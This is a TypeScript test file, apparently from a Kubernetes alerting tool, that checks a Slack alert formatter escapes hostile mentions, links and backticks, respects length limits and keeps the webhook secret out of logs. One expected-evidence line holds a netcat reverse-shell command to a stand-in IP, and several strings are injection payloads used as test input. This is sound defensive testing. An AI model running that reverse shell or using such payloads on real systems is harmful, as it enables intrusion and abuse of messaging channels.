import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Alert } from '../../src/alert/types.js';
import { QueuedSink } from '../../src/sink/queued-sink.js';
import { escapeFit, formatSlackMessage, SLACK_LIMITS } from '../../src/sink/slack-message.js';
import { slackTransport } from '../../src/sink/slack.js';
import { exampleAlerts } from './helpers/alerts.js';
import { memoryLogger } from './helpers/logger.js';
import { Receiver, selfSignedCert } from './helpers/receiver.js';

const HOSTILE = '<!channel> see <https://evil.example|click here> & <@U123> `x` ```';
let alert: Alert;
let hostile: Alert;

beforeAll(async () => {
  alert = (await exampleAlerts())[0]!;
  hostile = {
    ...alert,
    summary: `${HOSTILE} ${alert.summary}`,
    user: { ...alert.user, username: `<!here>&<mailto:a@b|me>` },
    object: { ...alert.object, name: '<!everyone>' },
    matches: alert.matches.map((m) => ({
      ...m,
      evidence: [{ field: 'workload.commands', value: HOSTILE }, ...m.evidence],
    })),
    response: { suggested: [`kubectl delete cronjob '<!channel>' && echo \`\`\`>&2`] },
  };
});

/** Every mrkdwn string in the message, wherever it sits. */
function mrkdwnTexts(v: unknown): string[] {
  if (Array.isArray(v)) return v.flatMap(mrkdwnTexts);
  if (v && typeof v === 'object') {
    const o = v as Record<string, unknown>;
    const own = o.type === 'mrkdwn' && typeof o.text === 'string' ? [o.text] : [];
    return [...own, ...Object.values(o).flatMap(mrkdwnTexts)];
  }
  return [];
}

describe('Slack message', () => {
  it('has text and blocks with severity, title, summary, object, user, evidence, commands', () => {
    const m = formatSlackMessage(alert);
    expect(m.text).toContain('[CRITICAL]');
    expect(m.text).toContain(alert.title);
    expect(m).toMatchObject({ unfurl_links: false, unfurl_media: false });
    const all = mrkdwnTexts(m.blocks).join('\n');
    expect(m.blocks[0]).toMatchObject({ type: 'section', text: { type: 'mrkdwn' } });
    expect(all).toContain(`*CRITICAL* · risk ${alert.riskScore}`);
    expect(all).toContain(`*${alert.title}*`);
    expect(all).toContain(alert.summary.replace(/&/g, '&amp;'));
    expect(all).toContain(`\`CronJob ${alert.object.namespace}/${alert.object.name}\``);
    expect(all).toContain(`\`${alert.user.username}\``);
    expect(all).toContain('`workload.commands`: `nc 203.0.113.47 4444 -e /bin/sh`');
    expect(all).toContain('*Suggested commands*\n```\n');
    const cmd = alert.response.suggested[0]!.replace(/&/g, '&amp;').replace(/>/g, '&gt;');
    expect(all).toContain(cmd);
    expect(m.blocks.at(-1)).toMatchObject({ type: 'context' });
    expect(m.blocks.length).toBeLessThanOrEqual(50);
  });

  it('escapes &, < and > from event data so no link or mention can be injected', () => {
    const m = formatSlackMessage(hostile);
    for (const t of [m.text, ...mrkdwnTexts(m.blocks)]) {
      expect(t).not.toMatch(/[<>]/);
      expect(t).not.toMatch(/&(?!amp;|lt;|gt;)/);
    }
    const all = mrkdwnTexts(m.blocks).join('\n');
    expect(all).toContain(
      '&lt;!channel&gt; see &lt;https://evil.example|click here&gt; &amp; &lt;@U123&gt;',
    );
    expect(all).toContain('`&lt;!here&gt;&amp;&lt;mailto:a@b|me&gt;`');
    expect(all).toContain('&lt;!everyone&gt;');
    // A backtick from the event cannot close the code span or block it sits in.
    expect(all).toContain('`workload.commands`: `&lt;!channel&gt; see');
    expect(all).not.toContain('`x`');
    const commands = mrkdwnTexts(m.blocks).find((t) => t.startsWith('*Suggested commands*'));
    expect(commands).toMatch(/^\*Suggested commands\*\n```\n[^`]+\n```$/);
    expect(commands).toContain(
      "kubectl delete cronjob '&lt;!channel&gt;' &amp;&amp; echo ˋˋˋ&gt;&amp;2",
    );
  });

  it('respects Slack length limits with oversized fields', () => {
    const huge = 'A&<'.repeat(5000);
    const m = formatSlackMessage({
      ...hostile,
      title: huge,
      summary: huge,
      matches: [{ ...alert.matches[0]!, evidence: Array(40).fill({ field: 'f', value: huge }) }],
      response: { suggested: Array(200).fill(`kubectl get pods ${'x'.repeat(100)}`) },
    });
    expect(m.text.length).toBeLessThanOrEqual(SLACK_LIMITS.text);
    for (const b of m.blocks) {
      const text = (b.text as { text?: string } | undefined)?.text;
      if (text) expect(text.length).toBeLessThanOrEqual(SLACK_LIMITS.sectionText);
      for (const f of (b.fields as { text: string }[] | undefined) ?? [])
        expect(f.text.length).toBeLessThanOrEqual(SLACK_LIMITS.fieldText);
    }
    const all = mrkdwnTexts(m.blocks).join('\n');
    expect(all).toContain('# … ');
    expect(all).toContain('… 32 more');
  });

  it('never cuts an entity in half', () => {
    expect(escapeFit('ab&cd', 4)).toBe('ab…');
    expect(escapeFit('a<b', 100)).toBe('a&lt;b');
  });
});

describe('Slack sink', () => {
  const tls = selfSignedCert();
  let r: Receiver;
  beforeAll(async () => {
    r = await new Receiver(tls).start();
  });
  afterAll(() => r.stop());

  it('POSTs the message to the incoming webhook and keeps the URL path out of logs', async () => {
    r.setAnswer((n) =>
      n === 0 ? { status: 404, body: 'no_service' } : { status: 200, body: 'ok' },
    );
    const logger = memoryLogger();
    const s = new QueuedSink(
      slackTransport({
        url: `${r.url}/T000/B000/XXXXSECRET`,
        timeoutMs: 5000,
        tls: { caFile: tls.certFile },
      }),
      { name: 'slack', type: 'slack' },
      { logger },
    );
    s.send(hostile);
    s.send(alert);
    await s.close();
    expect(s.stats()).toMatchObject({ sent: 1, failed: 1, retried: 0 });
    expect(JSON.parse(r.requests[1]!.body.toString())).toEqual(formatSlackMessage(alert));
    expect(r.requests[1]!.url).toBe('/hook/T000/B000/XXXXSECRET');
    expect(JSON.stringify(logger.lines)).not.toContain('XXXXSECRET');
    expect(logger.lines[0]!.obj).toMatchObject({ status: 404, reason: 'HTTP 404: no_service' });
  });
});
